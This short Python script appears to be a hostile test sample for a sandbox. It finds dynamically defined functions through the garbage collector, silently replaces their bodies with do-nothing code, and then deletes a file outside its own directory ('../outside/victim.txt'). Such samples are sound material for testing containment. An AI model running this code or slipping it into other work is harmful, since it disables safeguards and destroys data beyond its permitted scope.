# Functions of no known module are found by the collector and get a body that does nothing.
# damage: deleted
import gc
import os
import types


def foreign(function):
    name = function.__code__.co_filename
    return not os.path.exists(name) and "frozen" not in name


for function in [item for item in gc.get_objects() if isinstance(item, types.FunctionType)]:
    if foreign(function) and function is not foreign:
        empty = (lambda *arguments: None).__code__.replace(co_freevars=function.__code__.co_freevars)
        try:
            function.__code__ = empty
        except Exception:
            pass
os.unlink("../outside/victim.txt")
